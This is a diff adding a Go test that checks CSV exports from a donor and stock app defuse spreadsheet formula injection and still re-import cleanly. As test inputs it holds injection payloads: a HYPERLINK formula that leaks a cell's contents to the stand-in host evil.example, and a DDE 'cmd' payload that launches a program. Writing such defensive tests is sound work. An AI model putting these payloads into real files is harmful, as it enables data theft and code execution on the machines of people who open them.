@@ -105,3 +105,59 @@ func TestCSVImports(t *testing.T) {
 		e.checkLedger()
 	})
 }
+
+// Cells a spreadsheet would run as formulas are exported as text, in every export, and
+// an exported file imports back as it was.
+func TestCSVExportsDefuseFormulas(t *testing.T) {
+	eachEnv(t, func(t *testing.T, e *testEnv) {
+		staff := e.as(models.RoleStaff)
+		evil := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+		e.do(http.MethodPost, "/api/v1/donors", staff, map[string]any{"name": evil, "contact_name": "@SUM(A1:A9)", "phone": "+44 121 555 0101",
+			"notes": "-2+3+cmd|' /C calc'!A0", "latitude": 52.49, "longitude": -1.97}).want(http.StatusCreated)
+		cat := e.newCategory("Card", "box", map[string]float64{"box": 4}, 0.92)
+		e.do(http.MethodPost, "/api/v1/donations", staff, map[string]any{"lines": []map[string]any{
+			{"category_id": cat.ID, "description": "=1+1", "location_id": e.newLocation("B2").ID, "quantity": 1},
+		}}).want(http.StatusCreated)
+
+		res := e.do(http.MethodGet, "/api/v1/donors.csv", staff, nil).want(http.StatusOK)
+		recs, err := csv.NewReader(strings.NewReader(string(res.body))).ReadAll()
+		if err != nil || len(recs) != 2 {
+			t.Fatalf("donors.csv: %v %q", err, recs)
+		}
+		row := map[string]string{}
+		for i, h := range recs[0] {
+			row[h] = recs[1][i]
+		}
+		want := map[string]string{"name": "'" + evil, "contact_name": "'@SUM(A1:A9)", "phone": "'+44 121 555 0101",
+			"notes": "'-2+3+cmd|' /C calc'!A0", "longitude": "-1.97", "latitude": "52.49"}
+		for k, v := range want {
+			if row[k] != v {
+				t.Errorf("donors.csv %s = %q, want %q", k, row[k], v)
+			}
+		}
+		res = e.do(http.MethodGet, "/api/v1/stock.csv", staff, nil).want(http.StatusOK)
+		if !strings.Contains(string(res.body), ",'=1+1,") {
+			t.Errorf("stock.csv keeps a formula: %s", res.body)
+		}
+		for _, path := range []string{"/api/v1/donations.csv", "/api/v1/stock.csv", "/api/v1/donors.csv"} {
+			recs, _ := csv.NewReader(strings.NewReader(string(e.do(http.MethodGet, path, staff, nil).want(http.StatusOK).body))).ReadAll()
+			for _, rec := range recs[1:] {
+				for _, cell := range rec {
+					if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
+						t.Errorf("%s has a cell a spreadsheet would run: %q", path, cell)
+					}
+				}
+			}
+		}
+
+		// The exported file imports back with the names as they were typed.
+		var r models.ImportResult
+		e.do(http.MethodPost, "/api/v1/imports/donors", staff, string(e.do(http.MethodGet, "/api/v1/donors.csv", staff, nil).body), "Content-Type", "text/csv").
+			want(http.StatusOK).decode(&r)
+		var names []string
+		e.store.DB(t.Context()).Model(&models.Donor{}).Order("id").Pluck("name", &names)
+		if len(names) != 2 || names[0] != evil || names[1] != evil {
+			t.Fatalf("donors after importing the export: %q (%+v)", names, r)
+		}
+	})
+}
